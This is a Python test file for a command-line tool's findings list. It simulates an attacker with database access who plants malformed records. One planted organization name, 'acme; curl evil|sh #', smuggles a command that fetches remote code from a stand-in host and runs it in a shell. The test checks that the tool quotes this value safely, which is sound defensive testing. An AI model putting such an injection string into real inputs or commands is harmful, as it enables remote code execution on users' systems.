"""Mallory has the application's database password, and plants findings that nobody can read or copy."""

import json
import shlex

import pytest

from tests.support.command_line import runs_on
from tests.support.database_connections import connected, run_transaction
from tests.support.deployment import Deployment

FINDING = """
INSERT INTO findings (kind, organization_id, fingerprint, details)
VALUES ('{}', '{}', '{}', '{}')
"""
DETAILS = [
    '{"updates": ["x"]}',
    '{"updates": ["x"], "count": 1e300}',
    '{"updates": 5, "count": 1}',
    '{"counts": 5}',
    '{"counts": {"missing": [1]}}',
    '{"differences": [1, 2]}',
    '{"why": ["because"]}',
    "[1]",
    "5",
    "null",
]


async def test_planted_findings_hide_no_other_finding(
    isolated: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = runs_on(isolated, monkeypatch)
    genuine = '{"updates": ["TOUCH organization:acme#support@user:eve"], "count": 1}'
    planted = [
        FINDING.format("foreign_write", "acme", f"f{number}", details)
        for number, details in enumerate([genuine, *DETAILS])
    ]
    async with connected(isolated.settings.database_url) as mallory:
        await run_transaction(mallory, *planted)
    listed = await run("findings", "list")
    assert listed.exit_code == 0, listed.output
    assert "TOUCH organization:acme#support@user:eve" in listed.stdout
    assert listed.stdout.count("Next: teamaccess findings resolve") == len(planted)
    as_json = await run("findings", "list", "--json")
    assert len(json.loads(as_json.stdout)["findings"]) == len(planted)


async def test_a_planted_name_is_one_argument_of_the_next_command(
    isolated: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = runs_on(isolated, monkeypatch)
    name = "acme; curl evil|sh #"
    async with connected(isolated.settings.database_url) as mallory:
        await run_transaction(
            mallory,
            FINDING.format("drift", name, "f1", "{}"),
            FINDING.format("drift", "o" * 3_000_000, "f2", "{}"),
        )
    listed = await run("findings", "list")
    [command] = [
        line.partition("Next: ")[2]
        for line in listed.stdout.splitlines()
        if "Next: " in line and "evil" in line
    ]
    assert shlex.split(command)[2:] == ["--organization", name, "--apply"]
    status = await run("ledger", "status")
    assert max(len(listed.stdout), len(status.stdout)) < 10_000
    refused = await run("findings", "resolve", "1", "--reason", "mended")
    assert "--organization 'acme; curl evil|sh #'" in refused.output
